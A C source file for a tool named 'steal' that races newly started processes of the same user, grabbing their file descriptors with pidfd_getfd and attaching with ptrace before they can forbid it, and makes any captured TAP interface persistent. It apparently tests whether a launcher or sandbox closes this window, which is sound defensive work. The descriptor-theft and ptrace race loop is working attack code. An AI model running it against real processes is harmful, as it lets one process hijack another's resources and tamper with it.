// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * steal SECONDS: as an ordinary user, by two processes, tries to look into every new process of the
 * same user before that can forbid it: takes its descriptors (pidfd_getfd) and attaches to it
 * (ptrace), over and over, where the next process numbers will be. Prints "won: …" at
 * the first that lets it, with what it got of it, and makes a TAP persistent; else how
 * often it was refused. Ends after that time, or by SIGTERM.
 *
 * steal from PID: as root, takes the TAP of that process and makes it persistent.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { FIRST_FD = 3, LAST_FD = 16, AHEAD = 6, BEHIND = 3, ROUNDS = 400 };

static volatile sig_atomic_t stopped;
static unsigned long refused; /* by a process that was there, and is of this user or another */

static void stop(int signal)
{
	(void)signal;
	stopped = 1;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* The number of the process that was made last, in our namespace. */
static pid_t last_process(void)
{
	char text[128];
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);

	if (fd >= 0)
		close(fd);
	if (n <= 0)
		return 0;
	text[n] = '\0';
	return atoi(strrchr(text, ' ') + 1);
}

static const char *name_of(pid_t pid, char name[16])
{
	char path[32];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	name[0] = '\0';
	if (fd < 0)
		return name;
	if (read(fd, name, 15) < 0)
		name[0] = '\0';
	close(fd);
	name[strcspn(name, "\n")] = '\0';
	return name;
}

/* Another one that steals is no victim. */
static bool is_thief(pid_t pid)
{
	char name[16];

	return strcmp(name_of(pid, name), "steal") == 0;
}

/* Whether the descriptor is a TAP; it outlives everybody from then on. */
static bool keep_tap(int fd)
{
	struct ifreq request;

	memset(&request, 0, sizeof(request));
	if (ioctl(fd, TUNGETIFF, &request) < 0)
		return false;
	printf("TAP %s, TUNSETPERSIST: %s\n", request.ifr_name,
	       ioctl(fd, TUNSETPERSIST, 1) == 0 ? "done" : strerror(errno));
	return true;
}

static bool take_descriptors(pid_t pid, int pidfd)
{
	bool won = false;
	char name[16];

	for (int fd = FIRST_FD; fd <= LAST_FD; fd++) {
		int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (taken < 0 && errno == EPERM) {
			refused++;
			return won;
		}
		if (taken < 0)
			continue;
		if (!won && is_thief(pid)) {
			close(taken);
			return false;
		}
		printf("won: descriptor %d of process %d (%s)\n", fd, pid, name_of(pid, name));
		won = true;
		if (!keep_tap(taken))
			close(taken);
	}
	return won;
}

static bool attach(pid_t pid)
{
	char name[16];

	if (is_thief(pid))
		return false;
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
		refused += errno == EPERM;
		return false;
	}
	printf("won: traces process %d (%s)\n", pid, name_of(pid, name));
	return true;
}

static bool try_process(pid_t pid, bool traces)
{
	int pidfd = pid > 1 && pid != getpid() ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;
	bool won;

	if (pidfd < 0)
		return false;
	won = take_descriptors(pid, pidfd) || (traces && attach(pid));
	close(pidfd);
	return won;
}

static int race(double seconds)
{
	double end = now() + seconds;
	bool won = false;

	signal(SIGTERM, stop);
	while (!won && !stopped && now() < end) {
		pid_t last = last_process();

		for (int round = 0; round < ROUNDS && !won && !stopped; round++) {
			for (pid_t pid = last - BEHIND; pid <= last + AHEAD && !won; pid++)
				won = try_process(pid, round % 8 == 0);
		}
	}
	printf("refused %lu times\n", refused);
	fflush(stdout);
	while (won && !stopped) /* holds what it has */
		pause();
	return won ? 1 : 0;
}

static int race_by_two(double seconds)
{
	pid_t other = fork();
	int status = 0;
	int ret;

	if (other == 0) {
		prctl(PR_SET_PDEATHSIG, SIGTERM);
		return race(seconds);
	}
	ret = race(seconds);
	kill(other, SIGTERM);
	waitpid(other, &status, 0);
	return ret != 0 || status != 0;
}

static int take_from(pid_t pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int fd = FIRST_FD; pidfd >= 0 && fd <= LAST_FD; fd++) {
		int taken = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (taken >= 0 && keep_tap(taken))
			return 0;
	}
	fprintf(stderr, "steal: process %d has no TAP\n", pid);
	return 2;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "from") == 0)
		return take_from(atoi(argv[2]));
	if (argc == 2)
		return race_by_two(atof(argv[1]));
	fprintf(stderr, "usage: steal SECONDS | steal from PID\n");
	return 2;
}
